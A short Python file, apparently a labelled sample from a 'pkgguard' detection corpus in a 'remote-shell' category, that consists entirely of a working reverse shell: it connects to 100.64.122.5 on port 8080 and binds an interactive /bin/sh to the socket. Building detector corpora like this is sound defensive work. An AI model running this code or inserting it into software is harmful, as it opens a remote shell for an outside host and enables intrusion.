# pkgguard corpus 129 (remote-shell), modelled on [taxonomy]; inert, never run.
import socket
import subprocess

s = socket.create_connection(("100.64.122.5", 8080))
subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
